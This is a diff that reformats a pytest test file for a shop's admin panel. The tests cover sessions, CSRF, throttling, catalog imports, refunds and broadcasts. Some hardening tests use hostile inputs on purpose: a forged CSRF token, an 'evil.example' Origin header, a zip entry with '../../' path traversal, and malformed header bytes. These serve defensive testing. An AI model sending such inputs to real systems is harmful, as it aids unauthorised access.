@@ -28,10 +28,16 @@ class Admin:
         self.shop, self.http, self.csrf = s, requests.Session(), None
 
     def login(self, password=PASSWORD):
-        r = self.http.post(self.shop.url + "/admin/login", data={"password": password, "next": "/admin"},
-                           allow_redirects=False, timeout=10)
+        r = self.http.post(
+            self.shop.url + "/admin/login",
+            data={"password": password, "next": "/admin"},
+            allow_redirects=False,
+            timeout=10,
+        )
         if r.status_code == 303:
-            self.csrf = re.search(r'name="csrf_token" value="([^"]+)"', self.get("/admin/catalog").text).group(1)
+            self.csrf = re.search(
+                r'name="csrf_token" value="([^"]+)"', self.get("/admin/catalog").text
+            ).group(1)
         return r
 
     def get(self, path, **kw):
@@ -41,10 +47,14 @@ class Admin:
         data = dict(data or {})
         if csrf:
             data["csrf_token"] = self.csrf
-        return self.http.post(self.shop.url + path, data=data, files=files, allow_redirects=False, timeout=30, **kw)
+        return self.http.post(
+            self.shop.url + path, data=data, files=files, allow_redirects=False, timeout=30, **kw
+        )
 
     def flash(self, path):
-        return html.unescape(re.search(r'class="flash[^"]*"[^>]*>([^<]*)<', self.get(path).text).group(1))
+        return html.unescape(
+            re.search(r'class="flash[^"]*"[^>]*>([^<]*)<', self.get(path).text).group(1)
+        )
 
 
 @pytest.fixture
@@ -63,34 +73,60 @@ def audit_actions(conn):
 
 # Access
 
+
 def test_every_admin_page_needs_a_session(make_shop):
     s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
     anonymous = requests.Session()
-    for path in ("/admin", "/admin/catalog", "/admin/orders", "/admin/orders/1", "/admin/payments", "/admin/users",
-                 "/admin/broadcast", "/admin/settings", "/admin/data", "/admin/audit", "/admin/backup",
-                 "/admin/export/orders.csv", "/admin/export/ledger.csv", "/admin/products/new"):
+    for path in (
+        "/admin",
+        "/admin/catalog",
+        "/admin/orders",
+        "/admin/orders/1",
+        "/admin/payments",
+        "/admin/users",
+        "/admin/broadcast",
+        "/admin/settings",
+        "/admin/data",
+        "/admin/audit",
+        "/admin/backup",
+        "/admin/export/orders.csv",
+        "/admin/export/ledger.csv",
+        "/admin/products/new",
+    ):
         r = anonymous.get(s.url + path, allow_redirects=False, timeout=5)
         assert r.status_code == 303 and "/admin/login" in r.headers["Location"], path
-    for path in ("/admin/cities", "/admin/orders/1/refund", "/admin/users/1/balance", "/admin/broadcast",
-                 "/admin/settings", "/admin/logout"):
+    for path in (
+        "/admin/cities",
+        "/admin/orders/1/refund",
+        "/admin/users/1/balance",
+        "/admin/broadcast",
+        "/admin/settings",
+        "/admin/logout",
+    ):
         r = anonymous.post(s.url + path, data={"name": "x"}, allow_redirects=False, timeout=5)
         assert r.status_code == 303 and "/admin/login" in r.headers["Location"], path
     htmx = anonymous.get(s.url + "/admin/orders", headers={"HX-Request": "true"}, timeout=5)
     assert htmx.headers["HX-Redirect"] == "/admin/login"
     login = anonymous.get(s.url + "/admin/login", timeout=5)
-    assert "script-src 'self'" in login.headers["Content-Security-Policy"] and "frame-ancestors 'none'" in \
-        login.headers["Content-Security-Policy"]
+    assert (
+        "script-src 'self'" in login.headers["Content-Security-Policy"]
+        and "frame-ancestors 'none'" in login.headers["Content-Security-Policy"]
+    )
 
 
 def test_login_logout_and_the_session_cookie(admin):
     cookie = next(c for c in admin.http.cookies if c.name == "shop_admin")
     assert cookie.has_nonstandard_attr("HttpOnly") and cookie.path == "/admin"
-    raw = admin.http.post(admin.shop.url + "/admin/login", data={"password": PASSWORD}, allow_redirects=False,
-                          timeout=5).headers["Set-Cookie"]
+    raw = admin.http.post(
+        admin.shop.url + "/admin/login",
+        data={"password": PASSWORD},
+        allow_redirects=False,
+        timeout=5,
+    ).headers["Set-Cookie"]
     assert "samesite=strict" in raw.lower() and "HttpOnly" in raw
-    admin.login()                                   # the new session has its own CSRF token
+    admin.login()  # the new session has its own CSRF token
     token_hashes = [r[0] for r in admin.shop.conn.execute("SELECT token_hash FROM admin_sessions")]
-    assert cookie.value not in token_hashes and len(token_hashes) == 3          # only hashes are kept
+    assert cookie.value not in token_hashes and len(token_hashes) == 3  # only hashes are kept
     assert admin.get("/admin").status_code == 200
     assert admin.post("/admin/logout").status_code == 303
     assert admin.get("/admin", allow_redirects=False).status_code == 303
@@ -103,7 +139,7 @@ def test_wrong_passwords_are_refused_and_then_throttled(make_shop):
     for _ in range(5):
         r = a.login("guess")
         assert r.status_code == 403 and "Wrong password" in r.text
-    r = a.login(PASSWORD)                       # even the right one waits now
+    r = a.login(PASSWORD)  # even the right one waits now
     assert r.status_code == 429 and "Too many failed attempts" in r.text
     conn = shop.connect(s.config.shop_db)
     assert audit_actions(conn).count("login failed") == 5
@@ -111,15 +147,20 @@ def test_wrong_passwords_are_refused_and_then_throttled(make_shop):
 
 
 def test_a_missing_or_wrong_csrf_token_or_a_cross_site_post_is_refused(admin):
-    cases = [({"csrf": False}, "CSRF"), ({"data": {"csrf_token": "forged"}, "csrf": False}, "CSRF"),
-             ({"headers": {"Sec-Fetch-Site": "cross-site"}}, "Cross-site"),
-             ({"headers": {"Origin": "https://evil.example"}}, "Cross-site")]
+    cases = [
+        ({"csrf": False}, "CSRF"),
+        ({"data": {"csrf_token": "forged"}, "csrf": False}, "CSRF"),
+        ({"headers": {"Sec-Fetch-Site": "cross-site"}}, "Cross-site"),
+        ({"headers": {"Origin": "https://evil.example"}}, "Cross-site"),
+    ]
     for kw, words in cases:
         kw.setdefault("data", {})
         kw["data"] = {**kw["data"], "name": "Atlantis"}
         r = admin.post("/admin/cities", **kw)
         assert r.status_code == 403 and words in r.text, kw
-    ok = admin.post("/admin/cities", data={"name": "Atlantis"}, headers={"X-CSRF-Token": admin.csrf}, csrf=False)
+    ok = admin.post(
+        "/admin/cities", data={"name": "Atlantis"}, headers={"X-CSRF-Token": admin.csrf}, csrf=False
+    )
     assert ok.status_code == 303
     assert [r[0] for r in admin.shop.conn.execute("SELECT name FROM cities")] == ["Atlantis"]
 
@@ -135,26 +176,42 @@ def test_without_admin_password_the_first_start_prints_one_and_keeps_only_its_ha
     env = {k: v for k, v in __import__("os").environ.items() if k not in shop.ENV_VARS}
     env.update(PORT=str(free_port()), SHOP_DB=str(tmp_path / "s.db"), PYTHONUNBUFFERED="1")
     from conftest import ShopProcess
+
     proc = ShopProcess(tmp_path, env).start("--no-demo")
     line = proc.wait_log("Admin password (shown once")
     password = line.rsplit(": ", 1)[1].strip()
     proc.stop()
     assert password not in "\n".join(l for l in proc.lines if l is not line)
     conn = shop.connect(str(tmp_path / "s.db"))
-    stored = conn.execute("SELECT value FROM settings WHERE key = 'admin_password_hash'").fetchone()[0]
-    assert stored.startswith("scrypt$") and password not in stored and shop.check_password(password, stored)
-    proc2 = ShopProcess(tmp_path, env).start("--no-demo")            # not again on the next start
+    stored = conn.execute(
+        "SELECT value FROM settings WHERE key = 'admin_password_hash'"
+    ).fetchone()[0]
+    assert (
+        stored.startswith("scrypt$")
+        and password not in stored
+        and shop.check_password(password, stored)
+    )
+    proc2 = ShopProcess(tmp_path, env).start("--no-demo")  # not again on the next start
     proc2.stop()
     assert "Admin password" not in proc2.log
-    r = subprocess.run([sys.executable, str(ROOT / "shop.py"), "admin-password", "a new long secret"],
-                       cwd=tmp_path, env=env, capture_output=True, text=True, timeout=30)
+    r = subprocess.run(
+        [sys.executable, str(ROOT / "shop.py"), "admin-password", "a new long secret"],
+        cwd=tmp_path,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
     assert r.returncode == 0
-    assert shop.check_password("a new long secret", conn.execute(
-        "SELECT value FROM settings WHERE key = 'admin_password_hash'").fetchone()[0])
+    assert shop.check_password(
+        "a new long secret",
+        conn.execute("SELECT value FROM settings WHERE key = 'admin_password_hash'").fetchone()[0],
+    )
     conn.close()
 
 
 # Catalog
+
 
 def test_places_are_added_renamed_moved_and_hidden(admin):
     for name in ("Berlin", "Lisbon", "Łódź <Centrum>"):
@@ -162,19 +219,28 @@ def test_places_are_added_renamed_moved_and_hidden(admin):
     conn = admin.shop.conn
     ids = dict(conn.execute("SELECT name, id FROM cities").fetchall())
     admin.post(f"/admin/city/{ids['Łódź <Centrum>']}", {"action": "up"})
-    assert [r[0] for r in conn.execute("SELECT name FROM cities ORDER BY position")] == \
-        ["Berlin", "Łódź <Centrum>", "Lisbon"]
+    assert [r[0] for r in conn.execute("SELECT name FROM cities ORDER BY position")] == [
+        "Berlin",
+        "Łódź <Centrum>",
+        "Lisbon",
+    ]
     admin.post(f"/admin/city/{ids['Lisbon']}", {"action": "rename", "name": "Lisboa"})
     admin.post(f"/admin/city/{ids['Berlin']}", {"action": "hide"})
     admin.post("/admin/districts", {"city_id": ids["Lisbon"], "name": "Alfama"})
-    assert conn.execute("SELECT name, is_hidden FROM cities WHERE id = ?", (ids["Berlin"],)).fetchone()[:] == ("Berlin", 1)
+    assert conn.execute(
+        "SELECT name, is_hidden FROM cities WHERE id = ?", (ids["Berlin"],)
+    ).fetchone()[:] == ("Berlin", 1)
     assert conn.execute("SELECT name FROM districts").fetchall()[0][0] == "Alfama"
     for bad in ({"name": "Lisboa"}, {"name": ""}, {"name": "x" * 65}):
         admin.post("/admin/cities", bad)
         assert admin.flash("/admin/catalog").startswith("⚠️")
     assert conn.execute("SELECT count(*) FROM cities").fetchone()[0] == 3
-    assert audit_actions(conn)[1:] == ["city added"] * 3 + ["city moved up", "city renamed", "city hidden",
-                                                            "district added"]
+    assert audit_actions(conn)[1:] == ["city added"] * 3 + [
+        "city moved up",
+        "city renamed",
+        "city hidden",
+        "district added",
+    ]
     page = admin.get("/admin/catalog").text
     assert "Łódź &lt;Centrum&gt;" in page and "<Centrum>" not in page
 
@@ -185,26 +251,41 @@ def test_products_photos_and_units(admin, tmp_path):
     city = conn.execute("SELECT id FROM cities").fetchone()[0]
     admin.post("/admin/districts", {"city_id": city, "name": "Mitte"})
     district = conn.execute("SELECT id FROM districts").fetchone()[0]
-    r = admin.post("/admin/products", {"name": 'Tea <b>& "Co"', "description": "Green\nsencha", "price": "12,50",
-                                       "active": "1"}, files={"photo": ("tea.png", png(), "image/png")})
+    r = admin.post(
+        "/admin/products",
+        {"name": 'Tea <b>& "Co"', "description": "Green\nsencha", "price": "12,50", "active": "1"},
+        files={"photo": ("tea.png", png(), "image/png")},
+    )
     assert r.status_code == 303
     product = conn.execute("SELECT * FROM products").fetchone()
-    assert (product["name"], product["price_cents"], product["is_active"]) == ('Tea <b>& "Co"', 1250, 1)
+    assert (product["name"], product["price_cents"], product["is_active"]) == (
+        'Tea <b>& "Co"',
+        1250,
+        1,
+    )
     assert admin.get("/media/" + product["photo"]).content == png()
     before = conn.execute("SELECT * FROM products").fetchall()
-    for files, words in ((("notes.txt", b"just text", "image/png"), "not a JPEG"),
-                         (("big.png", png() + b"\0" * shop.MAX_IMAGE_BYTES, "image/png"), "larger than 10 MB")):
-        r = admin.post(f"/admin/products/{product['id']}", {"name": "Changed", "price": "1"}, files={"photo": files})
+    for files, words in (
+        (("notes.txt", b"just text", "image/png"), "not a JPEG"),
+        (("big.png", png() + b"\0" * shop.MAX_IMAGE_BYTES, "image/png"), "larger than 10 MB"),
+    ):
+        r = admin.post(
+            f"/admin/products/{product['id']}",
+            {"name": "Changed", "price": "1"},
+            files={"photo": files},
+        )
         assert r.status_code == 400 and words in r.text
-        assert 'value="Changed"' in r.text                 # what the owner typed is still there
+        assert 'value="Changed"' in r.text  # what the owner typed is still there
     assert [tuple(r) for r in conn.execute("SELECT * FROM products")] == [tuple(r) for r in before]
-    r = admin.post(f"/admin/products/{product['id']}/units", {"district_id": district,
-                                                              "units": "CODE-1\n\nCODE-2 line one\nline two\n\nCODE-3"},
-                   files={"media": ("locker.png", png(rgb=(1, 2, 3)), "image/png")})
+    r = admin.post(
+        f"/admin/products/{product['id']}/units",
+        {"district_id": district, "units": "CODE-1\n\nCODE-2 line one\nline two\n\nCODE-3"},
+        files={"media": ("locker.png", png(rgb=(1, 2, 3)), "image/png")},
+    )
     assert "3 units added" in admin.flash(f"/admin/products/{product['id']}")
     units = conn.execute("SELECT content, media FROM stock_units ORDER BY id").fetchall()
     assert [u[0] for u in units] == ["CODE-1", "CODE-2 line one\nline two", "CODE-3"]
-    assert all(u[1] and admin.get("/media/" + u[1]).status_code == 404 for u in units)   # private
+    assert all(u[1] and admin.get("/media/" + u[1]).status_code == 404 for u in units)  # private
     admin.post(f"/admin/products/{product['id']}/units", {"district_id": district, "units": "A\nB"})
     assert conn.execute("SELECT count(*) FROM stock_units").fetchone()[0] == 5
     buyer = user(conn, 9, balance=1250)
@@ -215,7 +296,12 @@ def test_products_photos_and_units(admin, tmp_path):
     spare = conn.execute("SELECT id FROM stock_units WHERE content = 'B'").fetchone()[0]
     admin.post(f"/admin/units/{spare}/delete", headers={"HX-Request": "true"})
     assert conn.execute("SELECT count(*) FROM stock_units").fetchone()[0] == 4
-    assert audit_actions(conn)[-4:] == ["product added", "units added", "units added", "unit deleted"]
+    assert audit_actions(conn)[-4:] == [
+        "product added",
+        "units added",
+        "units added",
+        "unit deleted",
+    ]
 
 
 def zip_of(files):
@@ -228,21 +314,43 @@ def zip_of(files):
 
 def test_a_catalog_import_is_previewed_then_confirmed(admin):
     conn = admin.shop.conn
-    catalog = {"cities": [{"name": "Kraków", "districts": ["Kazimierz"]}],
-               "products": [{"name": "Poster", "price": "19.00", "photo": "img/p.png",
-                             "stock": [{"city": "Kraków", "district": "Kazimierz", "content": "LOCKER 1",
-                                        "media": "img/l.png"}]}]}
-    archive = zip_of({"catalog.json": json.dumps(catalog), "img/p.png": png(), "img/l.png": png(rgb=(9, 9, 9))})
+    catalog = {
+        "cities": [{"name": "Kraków", "districts": ["Kazimierz"]}],
+        "products": [
+            {
+                "name": "Poster",
+                "price": "19.00",
+                "photo": "img/p.png",
+                "stock": [
+                    {
+                        "city": "Kraków",
+                        "district": "Kazimierz",
+                        "content": "LOCKER 1",
+                        "media": "img/l.png",
+                    }
+                ],
+            }
+        ],
+    }
+    archive = zip_of(
+        {"catalog.json": json.dumps(catalog), "img/p.png": png(), "img/l.png": png(rgb=(9, 9, 9))}
+    )
     r = admin.post("/admin/import", files={"file": ("catalog.zip", archive, "application/zip")})
     assert r.status_code == 200 and "This import would change" in r.text
-    assert conn.execute("SELECT count(*) FROM products").fetchone()[0] == 0          # a preview changes nothing
+    assert (
+        conn.execute("SELECT count(*) FROM products").fetchone()[0] == 0
+    )  # a preview changes nothing
     assert not list((admin.shop.config.media_dir / "private").glob("*"))
     token = re.search(r'name="token" value="([^"]+)"', r.text).group(1)
     assert admin.post("/admin/import/confirm", {"token": token}).status_code == 303
-    assert conn.execute("SELECT count(*) FROM stock_units WHERE media IS NOT NULL").fetchone()[0] == 1
-    assert admin.post("/admin/import/confirm", {"token": token}).status_code == 303     # used up
+    assert (
+        conn.execute("SELECT count(*) FROM stock_units WHERE media IS NOT NULL").fetchone()[0] == 1
+    )
+    assert admin.post("/admin/import/confirm", {"token": token}).status_code == 303  # used up
     assert "too old" in admin.flash("/admin/catalog")
-    bad = admin.post("/admin/import", files={"file": ("c.json", b'{"cities": 5}', "application/json")})
+    bad = admin.post(
+        "/admin/import", files={"file": ("c.json", b'{"cities": 5}', "application/json")}
+    )
     assert "nothing was imported" in bad.text and "cities: must be a list" in bad.text
     evil = zip_of({"catalog.json": "{}", "../../escape.txt": "x"})
     r = admin.post("/admin/import", files={"file": ("evil.zip", evil, "application/zip")})
@@ -252,6 +360,7 @@ def test_a_catalog_import_is_previewed_then_confirmed(admin):
 
 
 # Orders, payments, users
+
 
 @pytest.fixture
 def sale(admin):
@@ -276,11 +385,15 @@ def test_orders_are_filtered_searched_and_paged(admin, sale):
         shop.buy_with_balance(conn, 11, [(*gift, 1)])
     page = admin.get("/admin/orders").text
     assert page.count('href="/admin/orders/') == 50 and "Older orders" in page
-    more = re.search(r'href="(/admin/orders\?before=\d+[^"]*)"', page).group(1).replace("&amp;", "&")
+    more = (
+        re.search(r'href="(/admin/orders\?before=\d+[^"]*)"', page).group(1).replace("&amp;", "&")
+    )
     rest = admin.get(more, headers={"HX-Request": "true"}).text
-    assert "<html" not in rest and rest.count('href="/admin/orders/') == 12     # the fragment only
+    assert "<html" not in rest and rest.count('href="/admin/orders/') == 12  # the fragment only
     assert admin.get("/admin/orders?status=pending").text.count('href="/admin/orders/') == 1
-    assert admin.get("/admin/orders?q=12").text.count('href="/admin/orders/') == 2   # order #12, or user 12
+    assert (
+        admin.get("/admin/orders?q=12").text.count('href="/admin/orders/') == 2
+    )  # order #12, or user 12
     assert admin.get("/admin/orders?q=%23" + str(sale[0])).text.count('href="/admin/orders/') >= 1
     for junk in ("?status=x&from=yesterday&q=%00", "?before=abc", "?q=" + "9" * 40):
         assert admin.get("/admin/orders" + junk).status_code == 200
@@ -293,7 +406,9 @@ def test_refunding_an_order_credits_the_balance_once(admin, sale):
     admin.post(f"/admin/orders/{paid}/refund", {"reason": ""})
     assert "reason is empty" in admin.flash(f"/admin/orders/{paid}")
     admin.post(f"/admin/orders/{paid}/refund", {"reason": "damaged card"})
-    assert conn.execute("SELECT status FROM orders WHERE id = ?", (paid,)).fetchone()[0] == "refunded"
+    assert (
+        conn.execute("SELECT status FROM orders WHERE id = ?", (paid,)).fetchone()[0] == "refunded"
+    )
     assert shop.get_user(conn, 11)["balance_cents"] == 5000
     admin.post(f"/admin/orders/{paid}/refund", {"reason": "again"})
     assert "only paid orders" in admin.flash(f"/admin/orders/{paid}")
@@ -307,8 +422,12 @@ def test_resending_a_delivery(admin, sale):
     conn = admin.shop.conn
     conn.execute("UPDATE outbox SET status = 'sent'")
     admin.post(f"/admin/orders/{paid}/resend")
-    assert conn.execute("SELECT count(*) FROM outbox WHERE status = 'pending' AND order_id = ?",
-                        (paid,)).fetchone()[0] >= 2
+    assert (
+        conn.execute(
+            "SELECT count(*) FROM outbox WHERE status = 'pending' AND order_id = ?", (paid,)
+        ).fetchone()[0]
+        >= 2
+    )
     assert "delivery re-sent" in audit_actions(conn)
 
 
@@ -319,16 +438,26 @@ def test_a_payment_is_rechecked_or_marked_as_paid(admin, sale):
     assert payment["provider_id"] in page and "No IPN arrived" in page
     data = {**emulator(admin.shop, payment), "payment_status": "confirming"}
     with shop.transaction(conn):
-        conn.execute("UPDATE sandbox_payments SET data = ? WHERE id = ?",
-                     (shop.encode_json(data), int(payment["provider_id"])))
+        conn.execute(
+            "UPDATE sandbox_payments SET data = ? WHERE id = ?",
+            (shop.encode_json(data), int(payment["provider_id"])),
+        )
     admin.post(f"/admin/payments/{payment['id']}/recheck")
     assert "waiting -> confirming" in admin.flash(f"/admin/payments/{payment['id']}")
     admin.post(f"/admin/payments/{payment['id']}/mark-paid", {"reason": ""})
     assert conn.execute("SELECT status FROM payments").fetchone()[0] == "confirming"
-    admin.post(f"/admin/payments/{payment['id']}/mark-paid", {"reason": "paid in cash at the counter"})
-    assert conn.execute("SELECT status, outcome, final_source FROM payments").fetchone()[:] == \
-        ("finished", "delivered", "admin")
-    assert conn.execute("SELECT status FROM orders WHERE id = ?", (payment["order_id"],)).fetchone()[0] == "paid"
+    admin.post(
+        f"/admin/payments/{payment['id']}/mark-paid", {"reason": "paid in cash at the counter"}
+    )
+    assert conn.execute("SELECT status, outcome, final_source FROM payments").fetchone()[:] == (
+        "finished",
+        "delivered",
+        "admin",
+    )
+    assert (
+        conn.execute("SELECT status FROM orders WHERE id = ?", (payment["order_id"],)).fetchone()[0]
+        == "paid"
+    )
     admin.post(f"/admin/payments/{payment['id']}/mark-paid", {"reason": "twice"})
     assert "already finished" in admin.flash(f"/admin/payments/{payment['id']}")
     assert audit_actions(conn)[-2:] == ["payment re-checked", "payment marked as paid"]
@@ -340,7 +469,11 @@ def test_users_balance_and_bans(admin, sale):
     assert admin.get("/admin/users?q=11").text.count('href="/admin/users/11"') == 1
     admin.post("/admin/users/12/balance", {"amount": "10,50", "reason": "cash"})
     admin.post("/admin/users/12/balance", {"amount": "-0.50", "reason": "fee"})
-    for bad in ({"amount": "5", "reason": ""}, {"amount": "-99", "reason": "too much"}, {"amount": "x", "reason": "r"}):
+    for bad in (
+        {"amount": "5", "reason": ""},
+        {"amount": "-99", "reason": "too much"},
+        {"amount": "x", "reason": "r"},
+    ):
         admin.post("/admin/users/12/balance", bad)
         assert admin.flash("/admin/users/12").startswith("⚠️")
     assert shop.get_user(conn, 12)["balance_cents"] == 1000
@@ -348,7 +481,12 @@ def test_users_balance_and_bans(admin, sale):
     assert shop.get_user(conn, 12)["is_banned"] == 1
     admin.post("/admin/users/12/unban")
     assert shop.get_user(conn, 12)["is_banned"] == 0
-    assert audit_actions(conn)[-4:] == ["balance adjusted", "balance adjusted", "user banned", "user unbanned"]
+    assert audit_actions(conn)[-4:] == [
+        "balance adjusted",
+        "balance adjusted",
+        "user banned",
+        "user unbanned",
+    ]
     assert shop.check_ledger(conn) == []
     assert admin.get("/admin/users/424242").status_code == 404
 
@@ -356,11 +494,16 @@ def test_users_balance_and_bans(admin, sale):
 def test_a_refused_action_goes_back_only_to_an_admin_page_of_this_shop(admin, sale):
     bad = {"amount": "5", "reason": ""}
     host = admin.shop.url.split("//")[1]
-    for referer, back in ((f"{admin.shop.url}/admin/users/12?tab=ledger", "/admin/users/12?tab=ledger"),
-                          ("https://elsewhere.example/admin/users", "/admin"),
-                          (f"http://{host}//elsewhere.example/x", "/admin"),
-                          (f"{admin.shop.url}/app", "/admin"), (None, "/admin")):
-        r = admin.post("/admin/users/12/balance", bad, headers={"Referer": referer} if referer else {})
+    for referer, back in (
+        (f"{admin.shop.url}/admin/users/12?tab=ledger", "/admin/users/12?tab=ledger"),
+        ("https://elsewhere.example/admin/users", "/admin"),
+        (f"http://{host}//elsewhere.example/x", "/admin"),
+        (f"{admin.shop.url}/app", "/admin"),
+        (None, "/admin"),
+    ):
+        r = admin.post(
+            "/admin/users/12/balance", bad, headers={"Referer": referer} if referer else {}
+        )
         assert (r.status_code, r.headers["Location"].split(host)[-1]) == (303, back), referer
 
 
@@ -371,12 +514,19 @@ def test_a_broadcast_reaches_everyone_who_is_not_banned(admin):
     shop.set_banned(conn, 23, True)
     preview = admin.get("/admin/broadcast/preview", params={"text": "Sale <b>today</b> & tomorrow"})
     assert "Sale &lt;b&gt;today&lt;/b&gt; &amp; tomorrow" in preview.text
-    r = admin.post("/admin/broadcast", {"text": "Sale <b>today</b> & tomorrow"},
-                   files={"photo": ("sale.png", png(), "image/png")})
+    r = admin.post(
+        "/admin/broadcast",
+        {"text": "Sale <b>today</b> & tomorrow"},
+        files={"photo": ("sale.png", png(), "image/png")},
+    )
     broadcast = int(r.headers["Location"].rsplit("/", 1)[1])
-    rows = conn.execute("SELECT chat_id, text, photo FROM outbox WHERE broadcast_id = ?", (broadcast,)).fetchall()
+    rows = conn.execute(
+        "SELECT chat_id, text, photo FROM outbox WHERE broadcast_id = ?", (broadcast,)
+    ).fetchall()
     assert sorted(r[0] for r in rows) == [21, 22]
-    assert rows[0][1] == "Sale &lt;b&gt;today&lt;/b&gt; &amp; tomorrow" and rows[0][2].startswith("public:")
+    assert rows[0][1] == "Sale &lt;b&gt;today&lt;/b&gt; &amp; tomorrow" and rows[0][2].startswith(
+        "public:"
+    )
     progress = admin.get(f"/admin/broadcast/{broadcast}", headers={"HX-Request": "true"}).text
     assert "2 left" in progress and 'hx-trigger="every 1s"' in progress
     conn.execute("UPDATE outbox SET status = 'sent' WHERE broadcast_id = ?", (broadcast,))
@@ -389,28 +539,60 @@ def test_a_broadcast_reaches_everyone_who_is_not_banned(admin):
 
 # Settings, data, audit
 
+
 def test_settings_take_effect_without_a_restart(admin, make_shop):
     conn = admin.shop.conn
     page = admin.get("/admin/settings").text
     assert 'value="usdttrc20"' in page
-    r = admin.post("/admin/settings", {"shop_name": "Paper & Ink", "welcome_text": "Hi", "help_text": "Help",
-                                       "support_contact": "@help", "min_deposit": "7,50", "reservation_minutes": "45",
-                                       "coins_listed": "1", "coins": ["btc", "ltc"]})
+    r = admin.post(
+        "/admin/settings",
+        {
+            "shop_name": "Paper & Ink",
+            "welcome_text": "Hi",
+            "help_text": "Help",
+            "support_contact": "@help",
+            "min_deposit": "7,50",
+            "reservation_minutes": "45",
+            "coins_listed": "1",
+            "coins": ["btc", "ltc"],
+        },
+    )
     assert r.status_code == 303
-    assert admin.shop.setting("min_deposit_cents") == 750 and admin.shop.setting("reservation_minutes") == 45
+    assert (
+        admin.shop.setting("min_deposit_cents") == 750
+        and admin.shop.setting("reservation_minutes") == 45
+    )
     assert [c for c, _ in admin.shop.payments.coins()] == ["btc", "ltc"]
     assert shop.get_setting(conn, "shop_name") == "Paper & Ink"
     assert audit_actions(conn).count("settings changed") == 1
-    for bad in ({"min_deposit": "0"}, {"reservation_minutes": "0"}, {"coins_listed": "1", "coins": []},
-                {"shop_name": ""}):
-        form = {"shop_name": "Renamed", "welcome_text": "Hi", "help_text": "Help", "min_deposit": "7.50",
-                "reservation_minutes": "45", **bad}
+    for bad in (
+        {"min_deposit": "0"},
+        {"reservation_minutes": "0"},
+        {"coins_listed": "1", "coins": []},
+        {"shop_name": ""},
+    ):
+        form = {
+            "shop_name": "Renamed",
+            "welcome_text": "Hi",
+            "help_text": "Help",
+            "min_deposit": "7.50",
+            "reservation_minutes": "45",
+            **bad,
+        }
         r = admin.post("/admin/settings", form)
         assert r.status_code == 400 and "Nothing was saved" in r.text, bad
-    assert shop.get_setting(conn, "shop_name") == "Paper & Ink"        # a refused save keeps nothing
+    assert shop.get_setting(conn, "shop_name") == "Paper & Ink"  # a refused save keeps nothing
     assert admin.shop.setting("reservation_minutes") == 45
-    same = {"shop_name": "Paper & Ink", "welcome_text": "Hi", "help_text": "Help\r\n", "support_contact": "@help",
-            "min_deposit": "7.50", "reservation_minutes": "45", "coins_listed": "1", "coins": ["btc", "ltc"]}
+    same = {
+        "shop_name": "Paper & Ink",
+        "welcome_text": "Hi",
+        "help_text": "Help\r\n",
+        "support_contact": "@help",
+        "min_deposit": "7.50",
+        "reservation_minutes": "45",
+        "coins_listed": "1",
+        "coins": ["btc", "ltc"],
+    }
     admin.post("/admin/settings", same)
     assert admin.flash("/admin/settings") == "Nothing changed."
     assert audit_actions(conn).count("settings changed") == 1
@@ -431,12 +613,16 @@ def test_exports_and_backups(admin, sale):
     assert copy.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
     assert copy.execute("SELECT count(*) FROM orders").fetchone()[0] == 2
     copy.close()
-    admin.shop.backup()                          # the nightly job keeps the last 7
+    admin.shop.backup()  # the nightly job keeps the last 7
     for _ in range(8):
         admin.shop.backup_dir.joinpath(f"shop-2020010{_}-000000.db").write_bytes(b"")
     admin.shop.backup()
     assert len(list(admin.shop.backup_dir.glob("shop-*.db"))) == 7
-    assert audit_actions(admin.shop.conn)[-3:] == ["orders exported", "ledger exported", "backup downloaded"]
+    assert audit_actions(admin.shop.conn)[-3:] == [
+        "orders exported",
+        "ledger exported",
+        "backup downloaded",
+    ]
 
 
 def test_the_dashboard_shows_sales_and_problems(admin, sale):
@@ -448,32 +634,47 @@ def test_the_dashboard_shows_sales_and_problems(admin, sale):
 
 # Hardening: hostile input gets a 4xx, never a traceback or unbounded storage
 
+
 def test_undecodable_headers_and_fields_get_a_400(admin):
     url = admin.shop.url
-    for method, path, headers in (("GET", "/admin", {"HX-Request": b"\xff"}),
-                                  ("POST", "/admin/login", {"Origin": b"\xff"}),
-                                  ("GET", "/api/me", {"X-Telegram-Init-Data": b"\xff"}),
-                                  ("POST", "/webhook", {"x-nowpayments-sig": b"\xff"})):
+    for method, path, headers in (
+        ("GET", "/admin", {"HX-Request": b"\xff"}),
+        ("POST", "/admin/login", {"Origin": b"\xff"}),
+        ("GET", "/api/me", {"X-Telegram-Init-Data": b"\xff"}),
+        ("POST", "/webhook", {"x-nowpayments-sig": b"\xff"}),
+    ):
         r = requests.request(method, url + path, headers=headers, data=b"{}", timeout=5)
         assert r.status_code == 400, (path, r.status_code)
-    body = b"--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n\xff\xfe\r\n--b--\r\n"
-    r = requests.post(url + "/admin/login", data=body, timeout=5,
-                      headers={"Content-Type": "multipart/form-data; boundary=b; charset=nope"})
+    body = b'--b\r\nContent-Disposition: form-data; name="password"\r\n\r\n\xff\xfe\r\n--b--\r\n'
+    r = requests.post(
+        url + "/admin/login",
+        data=body,
+        timeout=5,
+        headers={"Content-Type": "multipart/form-data; boundary=b; charset=nope"},
+    )
     assert r.status_code == 400
     assert not [p for p in admin.shop.problems.records if p[1] == "ERROR"]
 
 
 def test_huge_ids_and_bad_dates_are_not_found_not_a_crash(admin):
     big = "9" * 25
-    for path in (f"/admin/products/{big}", f"/admin/orders/{big}", f"/admin/users/{big}", f"/admin/payments/{big}",
-                 f"/admin/broadcast/{big}"):
+    for path in (
+        f"/admin/products/{big}",
+        f"/admin/orders/{big}",
+        f"/admin/users/{big}",
+        f"/admin/payments/{big}",
+        f"/admin/broadcast/{big}",
+    ):
         assert admin.get(path).status_code == 404, path
     assert admin.post(f"/admin/orders/{big}/refund", {"reason": "x"}).status_code == 404
     assert admin.post("/admin/districts", {"city_id": big, "name": "x"}).status_code == 303
     for q in ("?to=2024-99-99", "?to=9999-12-31", "?from=0000-01-01"):
         assert admin.get("/admin/orders" + q).status_code == 200, q
     page = admin.get("/admin/orders/123")
-    assert page.status_code == 404 and "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
+    assert (
+        page.status_code == 404
+        and "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]
+    )
     assert page.headers["Cache-Control"] == "no-store"
 
 
@@ -482,7 +683,9 @@ def test_refused_ipns_are_kept_short_and_bounded(make_shop):
     s.payments.REFUSED_KEPT = 50
